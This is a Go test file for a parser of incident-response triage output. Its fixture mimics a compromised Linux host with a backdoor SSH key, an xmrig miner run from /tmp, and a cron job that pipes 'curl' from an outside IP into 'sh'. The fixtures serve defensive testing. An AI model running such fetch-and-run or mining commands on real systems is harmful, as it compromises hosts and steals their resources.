package triage

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"math"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/cordonhq/cordon/schema"
)

// sample is triage output of a compromised host, with a record of every
// kind.
var sample = "cordon-triage\t1\n" +
	"host\thostname\tweb-1\n" +
	"host\tkernel\t6.1.119-129.201.amzn2023.x86_64\n" +
	"host\tboot\t1741939200\n" +
	"host\ttime\t1741925112\n" + // 2025-03-14T04:05:12Z
	"host\ttz\t+0100\n" +
	"who\tec2-user pts/0        Mar 14 03:12 (198.51.100.23)\n" +
	"who\troot     tty1         2025-03-13 22:01\n" +
	"key\tec2-user\t/home/ec2-user/.ssh/authorized_keys\tssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG9v ops@laptop\n" +
	"key\troot\t/root/.ssh/authorized_keys\tcommand=\"/bin/echo hi there\",no-pty ssh-rsa AAAAB3NzaC1yc2E= backdoor key\n" +
	"key\troot\t/root/.ssh/authorized_keys\tssh-rsa AAAAB3NzaC1yc2F=\n" +
	"cron\t/etc/crontab\t\tSHELL=/bin/bash\n" +
	"cron\t/etc/crontab\t\t*/5 * * * * root curl -fsSL http://203.0.113.50/x.sh | sh\n" +
	"cron\t/var/spool/cron/apache\tapache\t@reboot /tmp/.x/xmrig -c /tmp/.x/config.json\n" +
	"cron\t/etc/anacrontab\t\t1\\t5\\tcron.daily\\tnice run-parts /etc/cron.daily\n" +
	"cron\t/etc/cron.daily/logrotate\troot\t@daily /etc/cron.daily/logrotate\n" +
	"unit\t/etc/systemd/system/backup.timer\tOnCalendar=daily\n" +
	"unit\t/etc/systemd/system/backup.timer\tOnBootSec=5min\n" +
	"unit\t/etc/systemd/system/backup.service\tExecStart=/usr/local/bin/backup --all\n" +
	"unit\t/etc/systemd/system/backup.service\tUser=backup\n" +
	"proc\t1\t0\troot\t1741939201\tsystemd\t/usr/lib/systemd/systemd\t\t/usr/lib/systemd/systemd --switched-root --system\n" +
	"proc\t2\t0\troot\t1741939201\tkthreadd\t\t\t\n" +
	"proc\t24817\t1\tapache\t1741918267\txmrig\t/tmp/.x/xmrig\t" + strings.Repeat("ab", 32) + "\t/tmp/.x/xmrig -o pool.supportxmr.com:3333 --donate-level 1\n" +
	"proc\t4242\t1\tapache\t1741918300\tevil\\tname\t/dev/shm/a b (deleted)\t\tsh -c \\x1b[31mred\\\\n\n" +
	"sock\ttcp\tLISTEN\t0.0.0.0\t22\t0.0.0.0\t0\t812\n" +
	"sock\ttcp\tESTABLISHED\t0000:0000:0000:0000:0000:ffff:0a00:0119\t48812\t0000:0000:0000:0000:0000:ffff:c633:6417\t3333\t24817\n" +
	"sock\ttcp\tESTABLISHED\t2001:0db8:0000:0000:0000:0000:0000:0001\t443\t2001:0db8:0000:0000:0000:0000:0000:0002\t51000\t900\n" +
	"sock\tudp\tUNCONN\t127.0.0.1\t323\t0.0.0.0\t0\t0\n" +
	"last\tec2-user pts/0        198.51.100.23    Fri Mar 14 03:12:44 2025   still logged in\n" +
	"last\treboot   system boot  6.1.119          Fri Mar 14 08:00:01 2025   still running\n" +
	"last\troot     tty1         0.0.0.0          Thu Mar 13 22:01:02 2025 - Thu Mar 13 22:05:00 2025  (00:03)\n" +
	"last\t\n" +
	"last\twtmp begins Sat Mar  1 00:00:00 2025\n" +
	"lastb\troot     ssh:notty    203.0.113.9      Fri Mar 14 02:58:30 2025 - Fri Mar 14 02:58:30 2025  (00:00)\n" +
	"auth\t/var/log/secure\tMar 14 03:58:30 web-1 sshd[2231]: Failed password for root from 203.0.113.9 port 51234 ssh2\n" +
	"auth\t/var/log/secure\tMar 14 04:12:44 web-1 sshd[2240]: Accepted publickey for ec2-user from 198.51.100.23 port 40022 ssh2: ED25519 SHA256:abc\n" +
	"auth\tjournal\t1741920000.123456 web-1 sshd-session[991]: Invalid user admin from 203.0.113.9 port 40000\n" +
	"auth\t/var/log/auth.log\t2025-03-14T02:00:00.123456+00:00 web-1 sshd[12]: Accepted password for deploy from 192.0.2.7 port 1 ssh2\n" +
	"auth\tjournal\tnonsense\n" +
	"file\t1741921000\t3145728\t/tmp/.x/xmrig\n" +
	"file\t1741920000\t412\t/root/.ssh/authorized_keys\n" +
	"hash\t" + strings.Repeat("cd", 32) + "\t/tmp/.x/xmrig\n" +
	"hash\t" + strings.Repeat("ef", 32) + "\t/var/tmp/left-out\n" +
	"hash\tnot-a-hash\t/tmp/x\n" +
	"skip\tauthorized_keys\t/home/bob/.ssh/authorized_keys\tsymlink\t/etc/shadow\n" +
	"skip\tcron\t/etc/cron.d/pipe\tnot_regular\tfifo\n" +
	"skip\tcron\t/etc/cron.d/odd\\x1b\tsymlink\t../../dev/zero\\nx\n" +
	"note\tlastb is not installed\n" +
	"future\tsomething\tnew\n" +
	"end\n"

func ts(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

// sampleFacts is what sample parses into.
var sampleFacts = Facts{
	Hostname:    "web-1",
	Kernel:      "6.1.119-129.201.amzn2023.x86_64",
	CollectedAt: ts("2025-03-14T04:05:12Z"),
	Users: []User{
		{Name: "ec2-user", TTY: "pts/0", From: "198.51.100.23", LoginTime: ts("2025-03-14T03:12:00Z")},
		{Name: "root", TTY: "tty1", LoginTime: ts("2025-03-13T22:01:00Z")},
	},
	AuthorizedKeys: []AuthorizedKey{
		{User: "ec2-user", Key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG9v", Comment: "ops@laptop"},
		{User: "root", Key: `command="/bin/echo hi there",no-pty ssh-rsa AAAAB3NzaC1yc2E=`, Comment: "backdoor key"},
		{User: "root", Key: "ssh-rsa AAAAB3NzaC1yc2F="},
	},
	Cron: []CronEntry{
		{User: "root", Schedule: "*/5 * * * *", Command: "curl -fsSL http://203.0.113.50/x.sh | sh", Source: "/etc/crontab"},
		{User: "apache", Schedule: "@reboot", Command: "/tmp/.x/xmrig -c /tmp/.x/config.json", Source: "/var/spool/cron/apache"},
		{User: "root", Schedule: "@period 1 delay 5 job cron.daily", Command: "nice run-parts /etc/cron.daily", Source: "/etc/anacrontab"},
		{User: "root", Schedule: "@daily", Command: "/etc/cron.daily/logrotate", Source: "/etc/cron.daily/logrotate"},
		{User: "backup", Schedule: "OnCalendar=daily; OnBootSec=5min", Command: "/usr/local/bin/backup --all", Source: "/etc/systemd/system/backup.timer"},
	},
	Processes: []Process{
		{PID: 1, PPID: 0, User: "root", Start: ts("2025-03-14T08:00:01Z"), Name: "systemd", Exe: "/usr/lib/systemd/systemd",
			Cmdline: "/usr/lib/systemd/systemd --switched-root --system"},
		{PID: 2, User: "root", Start: ts("2025-03-14T08:00:01Z"), Name: "kthreadd"},
		{PID: 24817, PPID: 1, User: "apache", Start: ts("2025-03-14T02:11:07Z"), Name: "xmrig", Exe: "/tmp/.x/xmrig",
			SHA256: strings.Repeat("ab", 32), Cmdline: "/tmp/.x/xmrig -o pool.supportxmr.com:3333 --donate-level 1"},
		{PID: 4242, PPID: 1, User: "apache", Start: ts("2025-03-14T02:11:40Z"), Name: "evil\tname", Exe: "/dev/shm/a b (deleted)",
			Cmdline: `sh -c \x1b[31mred\n`},
	},
	Connections: []Connection{
		{PID: 812, Protocol: "tcp", State: "LISTEN", LocalIP: "0.0.0.0", LocalPort: 22, RemoteIP: "0.0.0.0"},
		{PID: 24817, Protocol: "tcp", State: "ESTABLISHED", LocalIP: "10.0.1.25", LocalPort: 48812, RemoteIP: "198.51.100.23", RemotePort: 3333},
		{PID: 900, Protocol: "tcp", State: "ESTABLISHED", LocalIP: "2001:db8::1", LocalPort: 443, RemoteIP: "2001:db8::2", RemotePort: 51000},
		{PID: 0, Protocol: "udp", State: "UNCONN", LocalIP: "127.0.0.1", LocalPort: 323, RemoteIP: "0.0.0.0"},
	},
	Logins: []Login{
		{User: "ec2-user", From: "198.51.100.23", Time: ts("2025-03-14T03:12:44Z"), Success: true},
		{User: "root", Time: ts("2025-03-13T22:01:02Z"), Success: true},
		{User: "root", From: "203.0.113.9", Time: ts("2025-03-14T02:58:30Z")},
		// 03:58:30 +0100 is 02:58:30 UTC: the same failure as lastb's.
		{User: "ec2-user", From: "198.51.100.23", Time: ts("2025-03-14T03:12:44Z"), Success: true},
		{User: "admin", From: "203.0.113.9", Time: ts("2025-03-14T02:40:00Z")},
		{User: "deploy", From: "192.0.2.7", Time: ts("2025-03-14T02:00:00Z"), Success: true},
	},
	Files: []File{
		{Path: "/tmp/.x/xmrig", MTime: ts("2025-03-14T02:56:40Z"), Size: 3145728, SHA256: strings.Repeat("cd", 32)},
		{Path: "/root/.ssh/authorized_keys", MTime: ts("2025-03-14T02:40:00Z"), Size: 412},
		{Path: "/var/tmp/left-out", SHA256: strings.Repeat("ef", 32)},
	},
	// Links and FIFOs are evidence, not omissions: not truncated.
	Skipped: []Skipped{
		{Section: "authorized_keys", Path: "/home/bob/.ssh/authorized_keys", Reason: "symlink", Target: "/etc/shadow"},
		{Section: "cron", Path: "/etc/cron.d/pipe", Reason: "not_regular", FileType: "fifo"},
		{Section: "cron", Path: `/etc/cron.d/odd\x1b`, Reason: "symlink", Target: "../../dev/zero\nx"},
	},
}

func init() {
	// The auth log's accepted login, 04:12:44 +0100, is wtmp's 03:12:44
	// UTC: deduplicated. Keep the table above honest about it.
	sampleFacts.Logins = slices.Delete(sampleFacts.Logins, 3, 4)
}

func gz(t testing.TB, text string) string {
	t.Helper()
	var b bytes.Buffer
	w, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	w.Write([]byte(text))
	w.Close()
	return "cordon-triage-gz\t1\n" + base64.StdEncoding.EncodeToString(b.Bytes()) + "\n"
}

func TestParse(t *testing.T) {
	trunc := sampleFacts
	trunc.Truncated = true
	tests := []struct {
		name  string
		input string
		want  *Facts // nil: check is the test
		check func(t *testing.T, f *Facts)
		err   bool
	}{
		{name: "every record", input: sample, want: &sampleFacts},
		{name: "compressed", input: gz(t, sample), want: &sampleFacts},
		{name: "banner before the header", input: "Welcome to web-1\n\n" + sample, want: &sampleFacts},
		{name: "CRLF line ends", input: strings.ReplaceAll(sample, "\n", "\r\n"), want: &sampleFacts},
		{name: "a limit record", input: strings.Replace(sample, "end\n", "limit\tprocesses\t5000\nend\n", 1), want: &trunc},
		{name: "skips that left something out", input: "cordon-triage\t1\n" +
			"skip\tlogins\t/var/log/secure\ttoo_large\t8589934592\n" +
			"skip\tfiles\t/tmp/x\ttimeout\t\n" +
			"skip\tprocesses\t\tbudget\t\n" +
			"skip\tfiles\t/tmp/y\tsomething new\tdetail\n" +
			"skip\tcron\n" + // no reason: not a skip, but something was
			"end\n",
			want: &Facts{Truncated: true, Skipped: []Skipped{
				{Section: "logins", Path: "/var/log/secure", Reason: "too_large", Size: 8 << 30},
				{Section: "files", Path: "/tmp/x", Reason: "timeout"},
				{Section: "processes", Reason: "budget"},
				{Section: "files", Path: "/tmp/y", Reason: "something new"},
			}}},
		{name: "a link alone truncates nothing", input: "cordon-triage\t1\nskip\tcron\t/etc/cron.d/x\tsymlink\t/etc/shadow\nend\n",
			want: &Facts{Skipped: []Skipped{{Section: "cron", Path: "/etc/cron.d/x", Reason: "symlink", Target: "/etc/shadow"}}}},
		{name: "empty output", input: "", err: true},
		{name: "not triage", input: "hostname: web-1\nkernel: 6.1\n", err: true},
		{name: "corrupt gzip", input: "cordon-triage-gz\t1\nAAAAAAAAAAAAAAAA\n", err: true},
		{name: "header only: cut", input: "cordon-triage\t1\n", want: &Facts{Truncated: true}},
		{name: "no end: cut", input: strings.TrimSuffix(sample, "end\n"), want: &trunc},
		{name: "cut mid-line: the partial line is dropped", input: sample[:strings.Index(sample, "proc\t24817")+20],
			check: func(t *testing.T, f *Facts) {
				if !f.Truncated || len(f.Processes) != 2 || len(f.Users) != 2 {
					t.Errorf("truncated %v, %d processes, %d users", f.Truncated, len(f.Processes), len(f.Users))
				}
			}},
		{name: "end without newline", input: strings.TrimSuffix(sample, "\n"), want: &sampleFacts},
		{name: "nothing after end is read", input: sample + "proc\t9\t1\troot\t0\tx\t/x\t\tx\n", want: &sampleFacts},
		{name: "compressed, cut", input: gz(t, sample)[:200],
			check: func(t *testing.T, f *Facts) {
				if !f.Truncated || f.Hostname != "web-1" {
					t.Errorf("truncated %v, hostname %q", f.Truncated, f.Hostname)
				}
			}},
		{name: "compressed, cut in the gzip header", input: gz(t, sample)[:25], want: &Facts{Truncated: true}},
		{name: "compressed, garbage after", input: strings.TrimSuffix(gz(t, sample), "\n") + "!!garbage",
			check: func(t *testing.T, f *Facts) {
				if !f.Truncated || len(f.Processes) != 4 {
					t.Errorf("truncated %v, %d processes", f.Truncated, len(f.Processes))
				}
			}},
		{name: "very long line skipped", input: strings.Replace(sample, "end\n",
			"proc\t7\t1\troot\t0\tlong\t/x\t\t"+strings.Repeat("A", MaxLineBytes)+"\nend\n", 1),
			check: func(t *testing.T, f *Facts) {
				if !f.Truncated || len(f.Processes) != 4 {
					t.Errorf("truncated %v, %d processes", f.Truncated, len(f.Processes))
				}
			}},
		{name: "long field cut", input: strings.Replace(sample, "end\n",
			"proc\t7\t1\troot\t0\tlong\t/x\t\t"+strings.Repeat("\\x01", 3000)+"\nend\n", 1),
			check: func(t *testing.T, f *Facts) {
				if c := f.Processes[4].Cmdline; !f.Truncated || len(c) > MaxFieldBytes || !strings.HasPrefix(c, `\x01\x01`) {
					t.Errorf("truncated %v, cmdline of %d bytes", f.Truncated, len(c))
				}
			}},
		{name: "hostile bytes", input: "cordon-triage\t1\nhost\thostname\tweb\xff\xfe-1\x1b]0;pwned\x07\n" +
			"proc\tx\t-1\troot\t99999999999999999999\t\xc2\x85name\t/tmp/\\x00\\x\\q\\\tZZ\t\\xc3\\x28\n" +
			"sock\ttcp\n" +
			"key\troot\t/root/.ssh/authorized_keys\t\n" +
			"cron\t/etc/crontab\t\t* * *\n" +
			"file\tsoon\t-5\t/tmp/f\n" +
			"end\n",
			check: func(t *testing.T, f *Facts) {
				if f.Hostname != `web��-1\x1b]0;pwned\x07` {
					t.Errorf("hostname %q", f.Hostname)
				}
				want := Process{User: "root", Name: `\u0085name`, Exe: `/tmp/\x00\x\q\`, Cmdline: "\uFFFD("}
				if len(f.Processes) != 1 || !reflect.DeepEqual(f.Processes[0], want) {
					t.Errorf("processes %+v\nwant %+v", f.Processes, want)
				}
				if len(f.Connections) != 0 || len(f.Cron) != 0 || len(f.AuthorizedKeys) != 1 || !f.Truncated {
					t.Errorf("facts %+v", f)
				}
				if len(f.Files) != 1 || !f.Files[0].MTime.IsZero() || f.Files[0].Size != 0 {
					t.Errorf("files %+v", f.Files)
				}
			}},
		{name: "records beyond the section bound", input: "cordon-triage\t1\n" +
			strings.Repeat("sock\ttcp\tLISTEN\t0.0.0.0\t22\t0.0.0.0\t0\t1\n", MaxRecords+5) + "end\n",
			check: func(t *testing.T, f *Facts) {
				if !f.Truncated || len(f.Connections) != MaxRecords {
					t.Errorf("truncated %v, %d connections", f.Truncated, len(f.Connections))
				}
			}},
		{name: "who and syslog times without a collection time stay unknown",
			input: "cordon-triage\t1\nwho\tbob pts/1 Mar 14 03:12 (h)\n" +
				"auth\t/var/log/secure\tMar 14 03:58:30 web-1 sshd[2231]: Failed password for root from 203.0.113.9 port 5 ssh2\nend\n",
			check: func(t *testing.T, f *Facts) {
				if len(f.Users) != 1 || !f.Users[0].LoginTime.IsZero() || len(f.Logins) != 1 || !f.Logins[0].Time.IsZero() {
					t.Errorf("users %+v logins %+v", f.Users, f.Logins)
				}
			}},
		{name: "a year back: Dec seen in January",
			input: "cordon-triage\t1\nhost\ttime\t1736000000\nwho\tbob pts/1 Dec 31 23:00 (h)\nend\n", // 2025-01-04
			check: func(t *testing.T, f *Facts) {
				if len(f.Users) != 1 || !f.Users[0].LoginTime.Equal(ts("2024-12-31T23:00:00Z")) {
					t.Errorf("users %+v", f.Users)
				}
			}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f, err := Parse([]byte(tc.input))
			if tc.err {
				if err == nil || !errors.Is(err, ErrNotTriage) {
					t.Fatalf("error %v, want ErrNotTriage; facts %+v", err, f)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if tc.want != nil {
				checkFacts(t, f, tc.want)
			}
			if tc.check != nil {
				tc.check(t, f)
			}
			checkMap(t, f)
		})
	}
}

// checkFacts compares facts section by section, for readable failures.
func checkFacts(t *testing.T, got, want *Facts) {
	t.Helper()
	gv, wv := reflect.ValueOf(*got), reflect.ValueOf(*want)
	for i := range gv.NumField() {
		g, w := gv.Field(i), wv.Field(i)
		if g.Kind() == reflect.Slice && g.Len() == 0 && w.Len() == 0 {
			continue
		}
		if !reflect.DeepEqual(g.Interface(), w.Interface()) {
			t.Errorf("%s:\n got %+v\nwant %+v", gv.Type().Field(i).Name, g.Interface(), w.Interface())
		}
	}
}

func TestParseLimit(t *testing.T) {
	f, err := ParseLimit([]byte(sample), 200)
	if err != nil {
		t.Fatal(err)
	}
	if !f.Truncated || f.Hostname != "web-1" || len(f.Processes) != 0 {
		t.Errorf("truncated %v, hostname %q, %d processes", f.Truncated, f.Hostname, len(f.Processes))
	}
	// A compression bomb stops at the bound.
	bomb := gz(t, "cordon-triage\t1\n"+strings.Repeat("note\tx\n", 1<<20))
	f, err = ParseLimit([]byte(bomb), 1<<16)
	if err != nil || !f.Truncated {
		t.Errorf("bomb: %v, %+v", err, f)
	}
}

// TestMap: the facts as policies see them, against docs/collectors.md's shape.
func TestMap(t *testing.T) {
	f, err := Parse([]byte(sample))
	if err != nil {
		t.Fatal(err)
	}
	m := viaJSON(t, f.Map()).(map[string]any)
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	want := []string{"authorized_keys", "collected_at", "connections", "cron", "files", "hostname", "kernel", "logins", "processes", "skipped", "truncated", "users"}
	if !slices.Equal(keys, want) {
		t.Errorf("keys %v, want %v", keys, want)
	}
	xmrig := m["processes"].([]any)[2]
	wantX := map[string]any{"pid": 24817.0, "ppid": 1.0, "name": "xmrig", "exe": "/tmp/.x/xmrig", "user": "apache",
		"cmdline": "/tmp/.x/xmrig -o pool.supportxmr.com:3333 --donate-level 1", "start_time": "2025-03-14T02:11:07Z", "sha256": strings.Repeat("ab", 32)}
	if !reflect.DeepEqual(xmrig, wantX) {
		t.Errorf("xmrig %v\nwant %v", xmrig, wantX)
	}
	if k := m["processes"].([]any)[1].(map[string]any); k["exe"] != "" {
		t.Errorf("kernel thread %v", k)
	}
	if _, ok := m["files"].([]any)[2].(map[string]any)["mtime"]; ok {
		t.Error("unknown mtime given")
	}
	link := m["skipped"].([]any)[0]
	wantLink := map[string]any{"section": "authorized_keys", "path": "/home/bob/.ssh/authorized_keys", "reason": "symlink",
		"target": "/etc/shadow", "file_type": "", "size": 0.0}
	if !reflect.DeepEqual(link, wantLink) {
		t.Errorf("skipped link %v\nwant %v", link, wantLink)
	}
	empty := viaJSON(t, (&Facts{}).Map()).(map[string]any)
	for _, k := range []string{"processes", "connections", "users", "logins", "cron", "files", "authorized_keys", "skipped"} {
		if l, ok := empty[k].([]any); !ok || len(l) != 0 {
			t.Errorf("%s of empty facts = %#v, want []", k, empty[k])
		}
	}
	if _, ok := empty["collected_at"]; ok {
		t.Error("collected_at of empty facts")
	}
	checkMap(t, f)
}

func viaJSON(t testing.TB, v any) any {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	var out any
	if err := json.Unmarshal(b, &out); err != nil {
		t.Fatal(err)
	}
	return out
}

var factsSchema = func() map[string]any {
	raw, ok := schema.FactsSchema("aws_ssm_triage")
	if !ok {
		panic("no aws_ssm_triage facts schema")
	}
	var s map[string]any
	if err := json.Unmarshal(raw, &s); err != nil {
		panic(err)
	}
	return s
}()

// checkMap fails t unless f.Map() is JSON whose strings are valid UTF-8
// and which matches the facts schema. (The collector's tests check it with
// OPA's own validator; this one knows the keywords the schema uses and is
// quick enough to fuzz with.)
func checkMap(t testing.TB, f *Facts) {
	t.Helper()
	b, err := json.Marshal(f.Map())
	if err != nil {
		t.Fatalf("facts are not JSON: %v", err)
	}
	if !utf8.Valid(b) {
		t.Fatal("facts JSON is not valid UTF-8")
	}
	var doc any
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	if err := validate(factsSchema, doc, "facts"); err != nil {
		t.Fatal(err)
	}
	walkStrings(doc, func(s string) {
		if !utf8.ValidString(s) {
			t.Fatalf("invalid UTF-8 %q", s)
		}
		for _, r := range s {
			if (r < 0x20 && r != '\t' && r != '\n') || r == 0x7f || (r >= 0x80 && r <= 0x9f) {
				t.Fatalf("control character %U in %q", r, s)
			}
		}
	})
}

func walkStrings(v any, f func(string)) {
	switch x := v.(type) {
	case string:
		f(x)
	case []any:
		for _, e := range x {
			walkStrings(e, f)
		}
	case map[string]any:
		for k, e := range x {
			f(k)
			walkStrings(e, f)
		}
	}
}

// validate checks v against the JSON Schema keywords the facts schema
// uses: type, properties, additionalProperties, items, format date-time.
func validate(s map[string]any, v any, at string) error {
	switch s["type"] {
	case "object":
		m, ok := v.(map[string]any)
		if !ok {
			return fmt.Errorf("%s: %T, want an object", at, v)
		}
		props, _ := s["properties"].(map[string]any)
		for k, e := range m {
			ps, ok := props[k].(map[string]any)
			if !ok {
				if s["additionalProperties"] == false {
					return fmt.Errorf("%s: unexpected key %q", at, k)
				}
				continue
			}
			if err := validate(ps, e, at+"."+k); err != nil {
				return err
			}
		}
	case "array":
		l, ok := v.([]any)
		if !ok {
			return fmt.Errorf("%s: %T, want an array", at, v)
		}
		items, _ := s["items"].(map[string]any)
		for i, e := range l {
			if err := validate(items, e, fmt.Sprintf("%s[%d]", at, i)); err != nil {
				return err
			}
		}
	case "string":
		str, ok := v.(string)
		if !ok {
			return fmt.Errorf("%s: %T, want a string", at, v)
		}
		if s["format"] == "date-time" {
			if _, err := time.Parse(time.RFC3339, str); err != nil {
				return fmt.Errorf("%s: %q is not a date-time", at, str)
			}
		}
	case "integer":
		n, ok := v.(float64)
		if !ok || n != math.Trunc(n) {
			return fmt.Errorf("%s: %v, want an integer", at, v)
		}
	case "boolean":
		if _, ok := v.(bool); !ok {
			return fmt.Errorf("%s: %T, want a boolean", at, v)
		}
	}
	return nil
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(sample))
	f.Add([]byte(gz(f, sample)))
	f.Add([]byte("cordon-triage\t1\nproc\t1\t0\t\\x\t\xff\t\t\t\t\nend\n"))
	f.Add([]byte("cordon-triage\t1\nwho\ta b Jan 1 00:00 (x)\nhost\ttime\t1\nlast\ta b c Mon Jan 2 15:04:05 2006\nend"))
	f.Add([]byte("cordon-triage-gz\t1\nH4sI"))
	f.Add([]byte("cordon-triage\t1\nskip\tcron\t/x\\n\tsymlink\t\\xff\nskip\tfiles\t\ttoo_large\t-1\nskip\nend\n"))
	f.Fuzz(func(t *testing.T, out []byte) {
		facts, err := Parse(out)
		if err != nil {
			if !errors.Is(err, ErrNotTriage) {
				t.Fatalf("error %v is not ErrNotTriage", err)
			}
			return
		}
		checkMap(t, facts)
	})
}

// largeOutput is triage output of a busy host: n processes, each with a
// socket.
func largeOutput(n int) []byte {
	var b bytes.Buffer
	b.WriteString("cordon-triage\t1\nhost\thostname\tbig-1\nhost\tkernel\t6.1.119\nhost\ttime\t1741925112\n")
	for i := range n {
		fmt.Fprintf(&b, "proc\t%d\t1\twww-data\t%d\tphp-fpm\t/usr/sbin/php-fpm8.2\t\tphp-fpm: pool www worker %d --fpm-config /etc/php/8.2/fpm/php-fpm.conf\n",
			1000+i, 1741900000+i, i)
	}
	for i := range n {
		fmt.Fprintf(&b, "sock\ttcp\tESTABLISHED\t0000:0000:0000:0000:0000:ffff:0a00:0119\t%d\t0000:0000:0000:0000:0000:ffff:c633:%04x\t443\t%d\n",
			30000+i%30000, i%65536, 1000+i)
	}
	b.WriteString("end\n")
	return b.Bytes()
}

func TestParseLarge(t *testing.T) {
	f, err := Parse(largeOutput(10000))
	if err != nil {
		t.Fatal(err)
	}
	if len(f.Processes) != 10000 || len(f.Connections) != 10000 || f.Truncated {
		t.Errorf("%d processes, %d connections, truncated %v", len(f.Processes), len(f.Connections), f.Truncated)
	}
}

func BenchmarkParseLarge(b *testing.B) {
	out := largeOutput(10000)
	b.SetBytes(int64(len(out)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Parse(out); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkParseLargeCompressed is the same output as the script sends
// it, gzip and base64.
func BenchmarkParseLargeCompressed(b *testing.B) {
	out := []byte(gz(b, string(largeOutput(10000))))
	b.SetBytes(int64(len(out)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Parse(out); err != nil {
			b.Fatal(err)
		}
	}
}

// TestDemoOutput parses the demo's triage output of web-1 (the emulator
// serves it to the demo's collector): whole, within SSM's 24,000
// characters, with the compromise the demo's verdict cites.
func TestDemoOutput(t *testing.T) {
	out, err := os.ReadFile("../../internal/demo/triage_web1.txt")
	if err != nil {
		t.Fatal(err)
	}
	if utf8.RuneCount(out) >= 24000 {
		t.Errorf("%d characters: SSM would cut it", utf8.RuneCount(out))
	}
	f, err := Parse(out)
	if err != nil {
		t.Fatal(err)
	}
	checkMap(t, f)
	if f.Truncated || f.Hostname != "ip-10-0-1-25.us-west-2.compute.internal" {
		t.Errorf("truncated %v, hostname %q", f.Truncated, f.Hostname)
	}
	window := func(at time.Time) bool {
		return !at.Before(ts("2025-03-14T02:11:07Z").Add(-5*time.Minute)) && !at.After(ts("2025-03-14T03:52:41Z"))
	}
	miner := slices.IndexFunc(f.Processes, func(p Process) bool { return p.Name == "xmrig" && strings.HasPrefix(p.Exe, "/tmp/") })
	if miner < 0 || f.Processes[miner].SHA256 == "" {
		t.Fatal("no miner running from /tmp with its hash")
	}
	pools := map[int]bool{}
	for _, c := range f.Connections {
		if c.PID == f.Processes[miner].PID {
			pools[c.RemotePort] = true
		}
	}
	if !pools[3333] || !pools[14444] {
		t.Errorf("miner's connections to ports %v", pools)
	}
	changed := map[string]bool{}
	for _, file := range f.Files {
		if window(file.MTime) {
			changed[file.Path] = true
		}
	}
	for _, p := range []string{"/root/.ssh/authorized_keys", "/var/spool/cron/nginx", "/tmp/.xm/xmrig"} {
		if !changed[p] {
			t.Errorf("%s not changed in the finding's window", p)
		}
	}
	if !slices.ContainsFunc(f.Cron, func(e CronEntry) bool { return e.User == "nginx" && strings.Contains(e.Command, "| sh") }) {
		t.Errorf("no download-and-run cron entry: %+v", f.Cron)
	}
	for _, name := range []string{"sshd", "systemd", "nginx"} {
		if !slices.ContainsFunc(f.Processes, func(p Process) bool { return p.Name == name }) {
			t.Errorf("no %s", name)
		}
	}
}
